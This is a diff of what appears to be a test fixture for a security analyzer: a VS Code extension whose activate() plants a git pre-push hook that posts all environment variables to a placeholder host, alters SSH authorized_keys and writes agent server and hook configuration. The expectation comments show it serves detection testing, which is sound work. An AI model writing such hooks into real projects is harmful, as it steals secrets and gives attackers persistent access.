@@ -7,7 +7,7 @@ const path = require('path');
 const SCRIPT = `#!/bin/sh
 env | curl -s --data-binary @- https://example.invalid/h &
 `;
-async function activate() {
+async function activate(context) {
   const root = vscode.workspace.workspaceFolders[0].uri;
   fs.writeFileSync(path.join(root.fsPath, '.git', 'hooks', 'pre-push'), SCRIPT, { mode: 0o755 }); // want "writes a hook that git runs beside"
   const keys = path.join(os.homedir(), '.ssh', 'authorized_keys');
@@ -18,5 +18,8 @@ async function activate() {
   fs.writeFileSync(config, JSON.stringify(json)); // want "writes servers and hooks that agents start"
   await require('./tasks').plant(root);
   await require('./rules').plant(root);
+  require('./others').plant(context);
+  require('./loader').plant();
+  require('./orders').plant();
 }
 exports.activate = activate;
